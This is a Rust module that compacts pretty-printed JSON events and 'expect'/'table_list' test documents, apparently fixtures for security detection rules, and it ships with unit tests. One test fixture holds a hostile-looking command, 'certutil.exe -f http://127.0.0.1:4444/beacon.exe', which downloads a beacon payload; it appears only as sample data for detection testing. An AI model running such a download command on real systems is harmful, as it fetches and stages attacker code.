//! Pretty → compact transforms for raw events and test code.
//!
//! Two flavours exist because the two kinds of document are stored
//! differently:
//!
//! - [`compress_raw_events`] re-serialises each pretty-printed JSON event
//!   with `serde_json`, producing fully compact `{"k":"v"}` lines for the
//!   raw-events fixture.
//! - [`compress_test_code`] is purely textual and keeps the `"k": v` spelling
//!   used by `table_list` / `expect` documents, leaving comments and other
//!   non-JSON lines alone.
//!
//! The test-code flavour is an ordered list of named stages
//! ([`TEST_CODE_STAGES`]), mostly regex rewrites; order matters, since later
//! stages rely on the indentation already being gone.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use crate::error::{CodecError, Result};

// =============================================================================
// Storage flavour
// =============================================================================

// A block opens on a line that is exactly `{` and closes on a line that is
// exactly `}`; nested braces are indented in pretty output, so they never match.
static RAW_EVENT_BLOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^\{[ \t]*\r?$[\s\S]*?^\}[ \t]*\r?$").expect("valid regex")
});

/// Compact every pretty-printed JSON event in `text` to a single line.
///
/// Text without a pretty block is returned trimmed. A block that does not
/// parse even after escaping raw control characters is an error.
pub fn compress_raw_events(text: &str) -> Result<String> {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;

    for block in RAW_EVENT_BLOCK.find_iter(text) {
        out.push_str(&text[last..block.start()]);
        out.push_str(&compact_json_block(block.as_str())?);
        last = block.end();
    }
    out.push_str(&text[last..]);

    Ok(out.trim().to_string())
}

/// Parse one pretty JSON block and re-serialise it without whitespace.
pub fn compact_json_block(block: &str) -> Result<String> {
    let escaped = escape_control_chars_in_strings(block);
    let value: Value = serde_json::from_str(&escaped)
        .map_err(|e| CodecError::RawEventParse(e.to_string()))?;
    Ok(serde_json::to_string(&value)?)
}

/// Replace literal CR, LF and TAB inside JSON string literals with their
/// two-character escapes. Characters outside string literals are untouched.
pub fn escape_control_chars_in_strings(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut in_string = false;
    let mut escaped = false;

    for c in text.chars() {
        if in_string {
            match c {
                _ if escaped => {
                    escaped = false;
                    out.push(c);
                }
                '\\' => {
                    escaped = true;
                    out.push(c);
                }
                '"' => {
                    in_string = false;
                    out.push(c);
                }
                '\r' => out.push_str("\\r"),
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                _ => out.push(c),
            }
        } else {
            if c == '"' {
                in_string = true;
            }
            out.push(c);
        }
    }
    out
}

// =============================================================================
// Test-code flavour
// =============================================================================

/// How a pipeline stage rewrites its input.
enum Rewrite {
    Pattern {
        pattern: Regex,
        replacement: &'static str,
    },
    /// A string-literal-aware scan the regex engine cannot express.
    Scan(fn(&str) -> String),
}

/// A named rewrite applied as one step of the test-code pipeline.
pub struct Stage {
    pub name: &'static str,
    rewrite: Rewrite,
}

impl Stage {
    fn pattern(name: &'static str, pattern: &str, replacement: &'static str) -> Self {
        Stage {
            name,
            rewrite: Rewrite::Pattern {
                pattern: Regex::new(pattern).expect("valid regex"),
                replacement,
            },
        }
    }

    fn scan(name: &'static str, scan: fn(&str) -> String) -> Self {
        Stage {
            name,
            rewrite: Rewrite::Scan(scan),
        }
    }

    /// Apply this stage to `text`.
    pub fn apply(&self, text: &str) -> String {
        match &self.rewrite {
            Rewrite::Pattern {
                pattern,
                replacement,
            } => pattern.replace_all(text, *replacement).into_owned(),
            Rewrite::Scan(scan) => scan(text),
        }
    }
}

/// The test-code compaction pipeline, in application order.
///
/// Control characters inside string literals are escaped first, so the
/// line-joining stages only ever see structural line breaks.
pub static TEST_CODE_STAGES: LazyLock<Vec<Stage>> = LazyLock::new(|| {
    vec![
        Stage::scan("escape-control-chars", escape_control_chars_in_strings),
        Stage::pattern("strip-indentation", r"(?m)^[ \t]+", ""),
        Stage::scan("canonical-colon", canonical_colons),
        Stage::pattern("join-elements-crlf", r",\s*\r\n", ", "),
        Stage::pattern("join-elements-lf", r",\s*\n", ", "),
        Stage::pattern("open-brace-crlf", r"\{\s*\r\n", "{"),
        Stage::pattern("close-brace-crlf", r"\r\n\s*\}", "}"),
        Stage::pattern("open-brace-lf", r"\{\s*\n", "{"),
        Stage::pattern("close-brace-lf", r"\n\s*\}", "}"),
        Stage::pattern("open-bracket-crlf", r"\[\s*\r\n", "["),
        Stage::pattern("close-bracket-crlf", r"\r\n\s*\]", "]"),
        Stage::pattern("open-bracket-lf", r"\[\s*\n", "["),
        Stage::pattern("close-bracket-lf", r"\n\s*\]", "]"),
    ]
});

/// Collapse the whitespace after a key's colon to one space.
///
/// Only a colon that directly follows a closing quote is touched, and text
/// inside string literals is copied as is. `"k":v` without whitespace stays.
pub fn canonical_colons(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    let mut in_string = false;
    let mut escaped = false;
    let mut after_string = false;

    while let Some(c) = chars.next() {
        if in_string {
            match c {
                _ if escaped => escaped = false,
                '\\' => escaped = true,
                '"' => {
                    in_string = false;
                    after_string = true;
                    out.push(c);
                    continue;
                }
                _ => {}
            }
            out.push(c);
            continue;
        }

        if c == ':' && after_string && chars.peek().is_some_and(|n| n.is_whitespace()) {
            while chars.peek().is_some_and(|n| n.is_whitespace()) {
                chars.next();
            }
            out.push_str(": ");
        } else {
            if c == '"' {
                in_string = true;
            }
            out.push(c);
        }
        after_string = false;
    }
    out
}

// From the first `{` to the last `}` that ends a line.
static TEST_CODE_SPAN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?m)\{\s*[\s\S]*\s*\}\s*$").expect("valid regex"));

/// Compact the JSON bodies of a `table_list` / `expect` document.
///
/// Plain text without a JSON span passes through unchanged.
pub fn compress_test_code(text: &str) -> String {
    let Some(span) = TEST_CODE_SPAN.find(text) else {
        return text.to_string();
    };

    let compacted = TEST_CODE_STAGES
        .iter()
        .fold(span.as_str().to_string(), |acc, stage| stage.apply(&acc));

    let mut out = String::with_capacity(text.len());
    out.push_str(&text[..span.start()]);
    out.push_str(&compacted);
    out.push_str(&text[span.end()..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stage(name: &str) -> &'static Stage {
        TEST_CODE_STAGES
            .iter()
            .find(|s| s.name == name)
            .unwrap_or_else(|| panic!("no stage named {name}"))
    }

    // -------------------------------------------------------------------------
    // Individual stages
    // -------------------------------------------------------------------------

    #[test]
    fn strip_indentation_stage() {
        assert_eq!(stage("strip-indentation").apply("{\n\t  \"a\": 1\n    }"), "{\n\"a\": 1\n}");
    }

    #[test]
    fn canonical_colon_stage() {
        assert_eq!(stage("canonical-colon").apply("\"a\":\n   1"), "\"a\": 1");
        assert_eq!(stage("canonical-colon").apply("\"c:\\\\x\""), "\"c:\\\\x\"");
        assert_eq!(stage("canonical-colon").apply("\"a\":1"), "\"a\":1");
    }

    #[test]
    fn canonical_colon_leaves_string_content() {
        let text = r#"{"k":   "v\":   w"}"#;
        assert_eq!(stage("canonical-colon").apply(text), r#"{"k": "v\":   w"}"#);
    }

    #[test]
    fn escape_control_chars_stage() {
        let text = "{\n\"m\": \"a\nb\",\n\"t\": \"x\ty\"\n}";
        assert_eq!(
            stage("escape-control-chars").apply(text),
            "{\n\"m\": \"a\\nb\",\n\"t\": \"x\\ty\"\n}"
        );
    }

    #[test]
    fn join_elements_stages() {
        assert_eq!(stage("join-elements-crlf").apply("1, \r\n2"), "1, 2");
        assert_eq!(stage("join-elements-lf").apply("1,\n2"), "1, 2");
    }

    #[test]
    fn brace_stages() {
        assert_eq!(stage("open-brace-crlf").apply("{\r\n\"a\""), "{\"a\"");
        assert_eq!(stage("close-brace-crlf").apply("1\r\n}"), "1}");
        assert_eq!(stage("open-brace-lf").apply("{\n\"a\""), "{\"a\"");
        assert_eq!(stage("close-brace-lf").apply("1\n}"), "1}");
    }

    #[test]
    fn bracket_stages() {
        assert_eq!(stage("open-bracket-crlf").apply("[\r\n{"), "[{");
        assert_eq!(stage("close-bracket-crlf").apply("}\r\n]"), "}]");
        assert_eq!(stage("open-bracket-lf").apply("[\n{"), "[{");
        assert_eq!(stage("close-bracket-lf").apply("}\n]"), "}]");
    }

    #[test]
    fn escape_only_inside_strings() {
        let text = "{\n\"a\": \"line1\nline2\tx\r\"\n}";
        assert_eq!(
            escape_control_chars_in_strings(text),
            "{\n\"a\": \"line1\\nline2\\tx\\r\"\n}"
        );
    }

    #[test]
    fn escape_respects_escaped_quotes() {
        let text = "\"a \\\" b\nc\"\n";
        assert_eq!(escape_control_chars_in_strings(text), "\"a \\\" b\\nc\"\n");
    }

    // -------------------------------------------------------------------------
    // Test-code flavour
    // -------------------------------------------------------------------------

    #[test]
    fn trailing_tab_after_expect_is_kept() {
        let pretty = "expect 1 {\n\t\"correlation_name\": null, \n\t\"object.process.cmdline\": \"c:\\\\windows\\\\whoami.exe\"\n}\t";
        assert_eq!(
            compress_test_code(pretty),
            "expect 1 {\"correlation_name\": null, \"object.process.cmdline\": \"c:\\\\windows\\\\whoami.exe\"}\t"
        );
    }

    #[test]
    fn indented_closing_brace() {
        let pretty = "expect 1 {\n\t\"correlation_name\": null, \n\t\"object.process.cmdline\": \"certutil.exe -f http://127.0.0.1:4444/beacon.exe\"\n\t}";
        assert_eq!(
            compress_test_code(pretty),
            "expect 1 {\"correlation_name\": null, \"object.process.cmdline\": \"certutil.exe -f http://127.0.0.1:4444/beacon.exe\"}"
        );
    }

    #[test]
    fn line_breaks_inside_values_stay_on_one_line() {
        let pretty = "expect 1 {\n    \"m\": \"a\nb\",\n    \"t\": \"x\ty\"\n}";
        let compact = compress_test_code(pretty);
        assert_eq!(compact, "expect 1 {\"m\": \"a\\nb\", \"t\": \"x\\ty\"}");
        assert_eq!(compact.lines().count(), 1);
    }

    #[test]
    fn ipv6_localhost_values_survive() {
        let pretty = "{\r\n    \"src.host\": \"::1\",\r\n    \"src.ip\": \"::1\"\r\n}";
        assert_eq!(compress_test_code(pretty), "{\"src.host\": \"::1\", \"src.ip\": \"::1\"}");
    }

    #[test]
    fn plain_text_is_unchanged() {
        let text = "2022-07-20 07:03:38 W3SVC2 mail-srv 10.0.2.216 POST /Proxy/default.eas User=user@domain.com 200 0 0";
        assert_eq!(compress_test_code(text), text);
    }

    #[test]
    fn table_list_is_compacted() {
        let pretty = "table_list {\r\n    \"ESC_Auto_Profile\": [\r\n        {\r\n            \"rule\": \"ESC_Anomaly_Access_Gitlab_App\",\r\n            \"auto_profiling\": 1\r\n        }\r\n    ]\r\n}";
        assert_eq!(
            compress_test_code(pretty),
            "table_list {\"ESC_Auto_Profile\": [{\"rule\": \"ESC_Anomaly_Access_Gitlab_App\", \"auto_profiling\": 1}]}"
        );
    }

    #[test]
    fn table_and_event_keep_blank_line_between() {
        let pretty = concat!(
            "table_list {\r\n",
            "   \"ESC_Auto_Profile\": [\r\n",
            "       {\r\n",
            "            \"rule\": \"ESC_Anomaly_Access_Gitlab_App\",\r\n",
            "            \"auto_profiling\": 1\r\n",
            "       }\r\n",
            "    ]\r\n",
            "}\r\n",
            "\r\n",
            "{\r\n",
            "    \"subject.account.name\": \"admin\",\r\n",
            "    \"mime\": \"text/plain\",\r\n",
            "    \"category.low\": \"Communication\"\r\n",
            "}"
        );
        let expected = concat!(
            "table_list {\"ESC_Auto_Profile\": [{\"rule\": \"ESC_Anomaly_Access_Gitlab_App\", \"auto_profiling\": 1}]}\r\n",
            "\r\n",
            "{\"subject.account.name\": \"admin\", \"mime\": \"text/plain\", \"category.low\": \"Communication\"}"
        );
        assert_eq!(compress_test_code(pretty), expected);
    }

    #[test]
    fn lf_only_document_with_comment() {
        let pretty = concat!(
            "#4778\ntable_list default\ntable_list {\n",
            "    \"ESC_Auto_Profile\": [\n        {\n",
            "            \"rule\": \"Subrule_Unauthorized_Access_User_PC\",\n",
            "            \"auto_profiling\": 1\n        }\n    ],\n",
            "    \"ESC_Risk_Assets\": [\n        {\n",
            "            \"risk_type\": \"money\",\n",
            "            \"asset_ip\": \"\"\n        }\n    ]\n}\n\n",
            "expect 1 {\n",
            "    \"subject.account.name\": \"irogachev\",\n",
            "    \"count\": 1,\n",
            "    \"normalized\": true\n}\n"
        );
        let compact = compress_test_code(pretty);
        let lines: Vec<&str> = compact.split('\n').collect();
        assert_eq!(lines.len(), 6);
        assert_eq!(lines[0], "#4778");
        assert_eq!(lines[1], "table_list default");
        assert!(lines[2].starts_with("table_list {\"ESC_Auto_Profile\": [{"));
        assert_eq!(lines[3], "");
        assert_eq!(
            lines[4],
            "expect 1 {\"subject.account.name\": \"irogachev\", \"count\": 1, \"normalized\": true}"
        );
    }

    // -------------------------------------------------------------------------
    // Storage flavour
    // -------------------------------------------------------------------------

    #[test]
    fn single_pretty_event_becomes_one_line() {
        let pretty = "{\n\t\"Event\": {\n\t\t\"System\": {\n\t\t\t\"EventID\": \"4104\"\n\t\t},\n\t\t\"Message\": \"a\\r\\nb\"\n\t}\n}";
        let compact = compress_raw_events(pretty).unwrap();
        assert_eq!(compact.lines().count(), 1);
        assert_eq!(compact, r#"{"Event":{"System":{"EventID":"4104"},"Message":"a\r\nb"}}"#);
    }

    #[test]
    fn two_pretty_events_become_two_lines() {
        let pretty = "{\n    \"a\": 1\n}\n{\n    \"b\": {\n        \"c\": [1, 2]\n    }\n}";
        let compact = compress_raw_events(pretty).unwrap();
        assert_eq!(compact, "{\"a\":1}\n{\"b\":{\"c\":[1,2]}}");
    }

    #[test]
    fn raw_line_breaks_inside_strings_are_escaped() {
        let pretty = "{\n    \"body\": \"first\nsecond\"\n}";
        assert_eq!(compress_raw_events(pretty).unwrap(), r#"{"body":"first\nsecond"}"#);
    }

    #[test]
    fn text_without_block_is_trimmed() {
        assert_eq!(compress_raw_events("  some text \n").unwrap(), "some text");
        assert_eq!(
            compress_raw_events("{\"a\":1}\n{\"b\":2}\n").unwrap(),
            "{\"a\":1}\n{\"b\":2}"
        );
    }

    #[test]
    fn broken_block_is_an_error() {
        let err = compress_raw_events("{\n    \"a\": \n}").unwrap_err();
        assert!(matches!(err, CodecError::RawEventParse(_)));
    }

    #[test]
    fn crlf_blocks_are_found() {
        let pretty = "{\r\n    \"a\": 1\r\n}\r\n{\r\n    \"b\": 2\r\n}";
        assert_eq!(compress_raw_events(pretty).unwrap(), "{\"a\":1}\n{\"b\":2}");
    }
}
